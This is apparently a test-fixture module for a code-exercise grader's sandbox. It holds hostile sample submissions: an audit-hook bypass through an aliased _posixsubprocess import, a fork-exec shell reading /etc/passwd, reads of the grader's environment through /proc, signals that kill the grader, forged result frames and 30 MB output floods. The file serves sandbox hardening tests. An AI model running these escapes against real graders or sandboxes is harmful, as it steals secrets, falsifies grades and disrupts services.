"""Hostile answers to the ``duration`` code exercise, one per attack class, as learner source.

Each source defines ``project_duration(tasks)`` and attacks on its call; what it
found comes back as the error message of the check (the one channel a learner
sees), so any leak lands in the gradebook and the feedback page, where the
tests look for it. ``{name}`` and ``{name!r}`` are filled in by :func:`sources`
with the test's canaries: paths, a marker and process ids to aim at.
"""

from __future__ import annotations

import json

# Loads an extension module the audit hook blocks under a dotted alias (the hook
# looks at the first name only), as the issue reports; then runs Python code in
# a fresh interpreter started with _posixsubprocess.fork_exec, which has no
# audit hook at all: from there on only the OS sandbox stands in the way.
UNHOOKED = """
import importlib.util, os, sys
RAN = "UNHOOKED" + "-RAN"
def load(name):
    tag = "cpython-%d%d-x86_64-linux-gnu.so" % sys.version_info[:2]
    for folder in sys.path:
        path = os.path.join(folder, name + "." + tag)
        if os.path.exists(path):
            spec = importlib.util.spec_from_file_location("x." + name, path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
    raise ImportError(name)

def spawn(argv, setsid=True):
    ps = load("_posixsubprocess")
    out_r, out_w = os.pipe()
    err_r, err_w = os.pipe()
    pid = ps.fork_exec([os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (err_w,),
                       None, None, -1, -1, -1, out_w, -1, out_w, err_r, err_w, False, setsid,
                       -1, None, None, None, -1, None, False)
    os.close(out_w)
    os.close(err_w)
    return pid, out_r

PROBE = (
    "def probe(label, action):\\n"
    "    try:\\n"
    "        print(label, 'LEAK', repr(action())[:60])\\n"
    "    except Exception as error:\\n"
    "        print(label, 'no', type(error).__name__)\\n"
)

def unhooked(script):
    pid, out = spawn([sys.executable, "-c", "print(%r)\\n" % RAN + PROBE + script])
    data = b""
    while chunk := os.read(out, 65536):
        data += chunk
    return data.decode("latin-1")
"""

FORK_EXEC = (
    UNHOOKED
    + '''
SCRIPT = """
import os, socket, sys, time
probe("bank", lambda: open({bank!r} + "/duties.toml").read())
probe("book", lambda: open({gradebook!r}, "rb").read())
probe("passwd", lambda: open("/etc/passwd").read())
probe("outside", lambda: open({outside!r}, "a").write("escaped"))
probe("rewrite", lambda: open({gradebook!r}, "r+b").write(b"x"))
probe("net", lambda: socket.create_connection(("1.1.1.1", 53), timeout=1))
probe("unix", lambda: socket.socket(socket.AF_UNIX).connect("/run/systemd/private"))
sys.stdout.flush()
os.close(1)
os.close(2)
time.sleep(60)  # {marker}: must not outlive the job
"""

def project_duration(tasks):
    try:
        out = spawn(["/bin/sh", "-c", "head -c 40 /etc/passwd; exec sleep 60 # {marker}"])[1]
        said = os.read(out, 40)
        shell = ("shell LEAK " + repr(said)) if said else "shell no output"
    except BaseException as error:
        shell = "shell no " + type(error).__name__
    raise ValueError(shell + " " + unhooked(SCRIPT))
'''
)

SUBINTERPRETER = (
    UNHOOKED
    + '''
def project_duration(tasks):
    interpreters = load("_xxsubinterpreters")
    read_end, write_end = os.pipe()
    code = """
import os
def probe(label, action):
    try:
        os.write(%d, (label + ' LEAK ' + repr(action())[:60] + ' ').encode())
    except Exception as error:
        os.write(%d, (label + ' no ' + type(error).__name__ + ' ').encode())
os.write(%d, b'SUBINTERPRETER-RAN ')
probe("bank", lambda: open({bank!r} + "/duties.toml").read())
probe("outside", lambda: open({outside!r}, "w").write("escaped from a subinterpreter"))
""" % (write_end, write_end, write_end)
    interpreters.run_string(interpreters.create(), code)
    os.close(write_end)
    raise ValueError(os.read(read_end, 4000).decode())
'''
)

ENVIRON = (
    UNHOOKED
    + '''
def project_duration(tasks):
    raise ValueError(unhooked("""
import os
print(sorted(os.environ))
probe("self", lambda: open("/proc/self/environ", "rb").read())
probe("parent", lambda: open("/proc/%d/environ" % os.getppid(), "rb").read())
probe("grader", lambda: open("/proc/{grader}/environ", "rb").read())
probe("all", lambda: [open("/proc/%s/environ" % p, "rb").read() for p in os.listdir("/proc")])
"""))
'''
)

NODES = (
    UNHOOKED
    + '''
def project_duration(tasks):
    raise ValueError(unhooked("""
import os, stat
probe("fifo-outside", lambda: os.mkfifo({outside!r} + ".fifo"))
probe("fifo-here", lambda: os.mkfifo("fifo"))
probe("node-outside", lambda: os.mknod({outside!r} + ".dev", stat.S_IFCHR | 0o666, 259))
probe("node-here", lambda: os.mknod("null", stat.S_IFCHR | 0o666, 259))
"""))
'''
)

SIGNALS = (
    UNHOOKED
    + '''
def project_duration(tasks):
    raise ValueError(unhooked("""
import os, signal
for pid in [{victim}, {grader}]:
    probe("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))
    probe("kill", lambda: os.kill(pid, signal.SIGSTOP))
"""))
'''
)

FRAMES = """
import sys
SEEN = []
def project_duration(tasks):
    SEEN.append(tasks)
    found = []
    frame = sys._getframe()
    while frame:
        found.append(repr(frame.f_locals)[:20000])
        frame = frame.f_back
    raise ValueError(repr(SEEN) + repr(found))
"""

HUGE = """
import os
def project_duration(tasks):
    message = "A" * 30_000_000
    try:  # past the child's own framing: a giant record straight on the result pipe
        os.write(3, ('{{"e": "' + message + '"}}\\n').encode())
    except BaseException:
        pass
    raise ValueError(message)
"""

HUGE_PRINT = """
def project_duration(tasks):
    print("B" * 30_000_000)
    raise ValueError("C" * 30_000_000)
"""

FORGE = (
    UNHOOKED
    + '''
def project_duration(tasks):
    raise ValueError(unhooked("""
import os
forged = b'{{"results": [{{"v": 5}}], "error": null}}'
frame = len(forged).to_bytes(4, "big") + forged
for pid in [os.getppid(), 1, 2, 3]:
    probe("forge", lambda: open("/proc/%d/fd/1" % pid, "wb").write(frame * 3))
"""))
'''
)

ATTACKS = {
    "alias_fork_exec_shell": FORK_EXEC,
    "subinterpreter": SUBINTERPRETER,
    "grader_environ": ENVIRON,
    "fifo_and_device_nodes": NODES,
    "signal_to_grader": SIGNALS,
    "frame_walking_hidden_inputs": FRAMES,
    "thirty_megabyte_message": HUGE,
    "thirty_megabyte_print": HUGE_PRINT,
    "forged_reply": FORGE,
}


def sources(**canaries) -> dict[str, str]:
    """Each attack's source with the canaries filled in (paths, pids, marker)."""
    return {name: fill(text, canaries) for name, text in ATTACKS.items()}


def fill(text: str, canaries: dict) -> str:
    """``text`` with ``{key!r}`` and ``{key}`` replaced, then ``{{``/``}}`` unescaped."""
    for key, value in canaries.items():
        text = text.replace("{" + key + "!r}", json.dumps(str(value)))
        text = text.replace("{" + key + "}", str(value))
    return text.replace("{{", "{").replace("}}", "}")
